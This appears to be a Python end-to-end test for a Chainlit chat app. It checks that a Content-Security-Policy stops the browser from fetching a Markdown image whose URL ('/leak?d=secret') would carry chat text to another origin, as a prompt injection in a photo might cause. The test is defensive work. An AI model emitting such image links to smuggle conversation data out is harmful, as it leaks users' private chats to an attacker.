"""A model answer (e.g. a prompt injection in a photo) shows a remote image: the browser must not fetch it.

The fake vLLM answers with a Markdown image pointing at a little HTTP server
of the test's own, on another loopback port, its URL carrying "the chat's
text". Chainlit renders it as an <img>; the page's Content-Security-Policy
(`img-src 'self' data: blob:`, handlers/web/browser_policy.py) keeps the browser
from asking. The same page must still work: the answer streams in, and the
page script (public/shrink-photos.js, allowed as the app's own) still shrinks
a big photo before its upload.
"""

from __future__ import annotations

import http.server
import io
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from PIL import Image
from playwright.sync_api import ConsoleMessage

from tests import imagecorpus
from tests.e2e.chat_page import ChatPage
from tests.e2e.test_uploads import Uploads
from tests.fake_vllm import FakeVLLM
from tests.waiting import wait_until

THIRD_PARTY_STYLES = (
    "fonts.googleapis.com",
    "cdn.jsdelivr.net",
)  # in Chainlit's page; refused on purpose


class Recorder(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        self.server.paths.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(
            b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
            b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
        )

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[http.server.ThreadingHTTPServer]:
    """Another origin on loopback that records every request made to it."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    server.paths = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def test_a_remote_image_in_an_answer_is_not_fetched(
    chat: ChatPage, fake: FakeVLLM, elsewhere
) -> None:
    leak = f"http://127.0.0.1:{elsewhere.server_address[1]}/leak?d=secret"
    refused: list[str] = []
    chat.page.on("console", lambda m: _csp_refusal(m) and refused.append(m.text))
    fake.reply = f"Here is the picture. ![x]({leak}) That is all."
    chat.ask("Describe the photo")
    chat.wait_for_answer("That is all.")
    chat.wait_until_idle()
    assert (
        chat.last_answer.locator(f'img[src="{leak}"]').count() == 1
    )  # rendered, so the browser was asked
    wait_until(
        lambda: elsewhere.paths or any(leak in text for text in refused), "the image to be refused"
    )
    chat.screenshot("csp-remote-image")
    assert elsewhere.paths == []


def test_the_page_still_runs_its_own_scripts(
    chat: ChatPage, fake: FakeVLLM, tmp_path: Path
) -> None:
    refused: list[str] = []
    errors: list[str] = []
    chat.page.on("console", lambda m: _csp_refusal(m) and refused.append(m.text))
    chat.page.on("pageerror", lambda error: errors.append(str(error)))
    path = tmp_path / "IMG_0001.jpg"
    path.write_bytes(imagecorpus.encode(imagecorpus.photo(4000, 3000), "JPEG", quality=90))
    uploads = Uploads(chat)
    chat.ask("What is this?", path)
    chat.wait_for_answer(fake.reply)
    chat.wait_until_idle()
    with Image.open(io.BytesIO(uploads.files["IMG_0001.jpg"])) as sent:
        assert sent.size == (2048, 1536)  # shrunk by public/shrink-photos.js
    assert errors == []
    assert [text for text in refused if not any(host in text for host in THIRD_PARTY_STYLES)] == []


def _csp_refusal(message: ConsoleMessage) -> bool:
    return "Content Security Policy" in message.text
